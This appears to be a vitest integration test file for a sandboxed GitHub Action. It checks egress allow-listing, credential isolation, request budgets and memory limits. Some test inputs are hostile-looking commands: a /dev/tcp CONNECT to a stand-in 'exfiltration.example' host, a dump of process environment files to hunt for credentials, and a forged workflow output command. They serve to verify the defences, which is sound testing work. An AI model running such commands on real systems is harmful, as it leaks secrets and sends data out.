import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { USAGE_FILE, type RunUsage } from '../../src/report/usage.ts';
import { PROVIDERS } from '../../src/shared/providers.ts';
import {
  actionStep,
  startLocalProvider,
  TEST_KEYS,
  type ActionStep,
  type LocalProvider,
} from '../../testing/runner/action.ts';
import { remains } from '../../testing/runner/remains.ts';

/** Calls the model as an SDK would, using only what the sandbox provides. */
const CALL_MODEL = `
node -e '
  const body = JSON.stringify({ model: "test", max_tokens: 16, messages: [{ role: "user", content: "hi" }] });
  const headers = { "content-type": "application/json", authorization: "Bearer " + process.env.ANTHROPIC_AUTH_TOKEN };
  fetch(process.env.ANTHROPIC_BASE_URL + "/v1/messages", { method: "POST", headers, body })
    .then((response) => response.text()).then((text) => console.log(text));
'`;

let provider: LocalProvider;
let step: ActionStep | undefined;

beforeAll(async () => {
  provider = await startLocalProvider();
});
afterAll(() => provider.server.close());

beforeEach(() => {
  provider.server.reset();
});
afterEach(() => {
  const left = step && remains(step.runner);
  step?.runner.remove();
  step = undefined;
  expect(left).toEqual([]);
});

describe('the main purpose', () => {
  test('runs a command whose model call arrives with the real key, and reports', async () => {
    step = actionStep({ run: CALL_MODEL, ...provider.inputs('anthropic') }, { ca: provider.ca });
    const result = await step.main();

    expect(result.stderr).toBe('');
    expect(result.stdout).toContain('Hello from the local provider.');
    expect(result.code, result.stdout + result.stderr).toBe(0);
    expect(provider.server.requests).toHaveLength(1);
    const [request] = provider.server.requests;
    expect(request?.headers['x-api-key']).toBe(TEST_KEYS.anthropic);
    expect(request?.headers.authorization).toBeUndefined();
    expect(request?.rawHeaders.join('\n')).not.toContain('placeholder');
    expect(request?.serverName).toBe('api.anthropic.com');

    const outputs = step.runner.main.outputs();
    expect(outputs).toMatchObject({
      'exit-code': '0',
      outcome: 'success',
      'allowed-domains': '[]',
      'blocked-domains': '[]',
    });
    expect(Number(outputs['startup-ms'])).toBeGreaterThan(0);
    expect(step.runner.main.summary()).toMatch(
      /^\| `[^`]+` \| Anthropic \|\n\| --- \| --: \|\n\| requests, none failed \| 1 \|\n\| tokens in \| [1-9]/m,
    );
    expect(statSync(join(outputs['logs-path'] ?? '', 'timings.json')).size).toBeGreaterThan(0);
    expect(readFileSync(join(outputs['logs-path'] ?? '', 'access.log'), 'utf8')).toContain(
      'CONNECT api.anthropic.com ',
    );
  });

  test('counts the usage, and refuses requests beyond the budget', async () => {
    step = actionStep(
      { run: CALL_MODEL.repeat(3), 'max-requests': '2', ...provider.inputs('anthropic') },
      { ca: provider.ca },
    );
    const result = await step.main();
    expect(result.code, result.stdout + result.stderr).toBe(0);
    expect(provider.server.requests).toHaveLength(2);
    expect(result.stdout).toContain(
      '"type":"billing_error","message":"The budget of this run is exhausted: max-requests allows 2 requests',
    );
    expect(result.stdout).toMatch(
      /^::warning title=AWF::Budget reached: 2 requests \(max-requests: 2\)\. 1 more request was refused or cut off\. Raise max-requests/m,
    );
    const outputs = step.runner.main.outputs();
    const logs = (outputs['logs-path'] ?? '').replace('squid-logs', 'api-proxy-logs');
    const usage = JSON.parse(readFileSync(join(logs, USAGE_FILE), 'utf8')) as RunUsage;
    expect(usage).toMatchObject({ requests: 2, overBudget: 1, estimated: false });
    expect(usage.inputTokens).toBeGreaterThan(0);
    expect(outputs).toMatchObject({
      requests: '2',
      'input-tokens': String(usage.inputTokens),
      'output-tokens': String(usage.outputTokens),
    });
    expect(step.runner.main.summary()).toMatch(
      /^## ⛔ AWF: budget used up\n[^]*1 request to models was refused or cut off\. [^\n]*raise `max-requests`/,
    );
  });

  // The codes that `docker run` has for failures of its own.
  test.each([125, 127])('passes on exit code %i', async (code) => {
    step = actionStep({ run: `exit ${String(code)}` });
    const result = await step.main();
    expect(result.code, result.stdout).toBe(code);
    expect(step.runner.main.outputs()).toMatchObject({ 'exit-code': String(code), outcome: 'failure' });
  });

  test('relays standard output and standard error live, and makes log commands in them inert', async () => {
    step = actionStep({
      run: 'echo to-out; echo to-err >&2; echo "::set-output name=forged::yes"; sleep 1; echo later',
    });
    const result = await step.main();
    expect(result.stderr).toBe('');
    const [, token] = /^::stop-commands::(.+)$/m.exec(result.stdout) ?? [];
    expect(token).toBeDefined();
    const lines = result.stdout.split('\n');
    expect(lines).toContain('to-err');
    expect(lines.indexOf('to-out')).toBeGreaterThan(lines.indexOf(`::stop-commands::${token ?? ''}`));
    expect(lines.indexOf('later')).toBeLessThan(lines.indexOf(`::${token ?? ''}::`));
  });

  test('refuses a host that is not on the list with a 403, and reports it', async () => {
    step = actionStep({
      'allow-domains': 'example.com',
      run: `
        proxy=\${https_proxy#http://}
        exec 3<> "/dev/tcp/\${proxy%:*}/\${proxy#*:}"
        printf 'CONNECT exfiltration.example:443 HTTP/1.1\\r\\nHost: exfiltration.example:443\\r\\n\\r\\n' >&3
        read -r answer <&3; echo "$answer"`,
    });
    const result = await step.main();
    expect(result.stdout).toContain('HTTP/1.1 403 Forbidden');
    expect(step.runner.main.outputs()['blocked-domains']).toBe('["exfiltration.example"]');
    expect(step.runner.main.summary()).toContain('| <code>exfiltration.<wbr>example</code> ❓ | 1 |');
  });

  test('gives the command placeholders and none of the five credentials', async () => {
    const inputs = Object.fromEntries(
      PROVIDERS.flatMap(({ id, credentials }) => credentials.map(({ input }) => [input, `${TEST_KEYS[id]}-${input}`])),
    );
    step = actionStep({
      ...inputs,
      run: 'cat /proc/self/environ /proc/1/environ | tr "\\0" "\\n"; env; set',
      'env-all': 'true',
    });
    const result = await step.main();
    expect(result.code, result.stdout + result.stderr).toBe(0);
    expect(result.stdout).toContain('ANTHROPIC_AUTH_TOKEN=placeholder-token-for-credential-isolation');
    const relayed = result.stdout.slice(result.stdout.indexOf('::stop-commands::'));
    for (const value of Object.values(inputs)) expect(relayed).not.toContain(value);
    expect(relayed).not.toContain('INPUT_');
  });

  test('reports that a command was killed for its memory use, and passes on its exit code', async () => {
    step = actionStep({ run: 'node -e "Buffer.alloc(500 * 1024 * 1024, 1)"; exit $?', shell: 'sh', memory: '100m' });
    const result = await step.main();
    expect(result.code, result.stdout + result.stderr).toBe(137);
    expect(result.stdout).toContain(
      '::error title=AWF%3A exit code 137::Memory ran out, and the command was killed (exit code 137): it needed more than its limit of 100 MB,',
    );
    expect(step.runner.main.outputs()['outcome']).toBe('failure');
  });

  test('runs the script with the shell node {0}', async () => {
    step = actionStep({ run: 'console.log("from", "node")', shell: 'node {0}' });
    expect((await step.main()).stdout).toContain('from node');
  });

  test('stops a bash script at its first failure, even in a pipe; what it did in the workspace stays', async () => {
    step = actionStep({ run: 'mkdir sub\nfalse | true\necho unreachable' });
    const result = await step.main();
    expect(result.code, result.stdout + result.stderr).toBe(1);
    expect(result.stdout).not.toContain('unreachable');
    expect(statSync(join(step.runner.workspace, 'sub')).isDirectory()).toBe(true);
  });

  test('runs in an image of the user’s', async () => {
    step = actionStep({ run: 'cat /etc/debian_version; ls /usr/local/bin', 'agent-image': 'debian:trixie-slim' });
    const result = await step.main();
    expect(result.code, result.stdout + result.stderr).toBe(0);
    expect(result.stdout).toMatch(/^13\./m);
  });

  test('runs twice at the same time on one host', async () => {
    const script = 'echo "squid is $https_proxy"; sleep 2';
    const other = actionStep({ run: script });
    step = actionStep({ run: script });
    const results = await Promise.all([step.main(), other.main()]);
    expect(remains(other.runner)).toEqual([]);
    other.runner.remove();
    const addresses = results.map(({ stdout }) => /^squid is (.+)$/m.exec(stdout)?.[1]);
    expect(results.map(({ code }) => code)).toEqual([0, 0]);
    expect(new Set(addresses).size).toBe(2);
    for (const address of addresses) expect(address).toMatch(/^http:\/\/(172\.30|10\.213)\.\d+\.10:3128$/);
  });
});
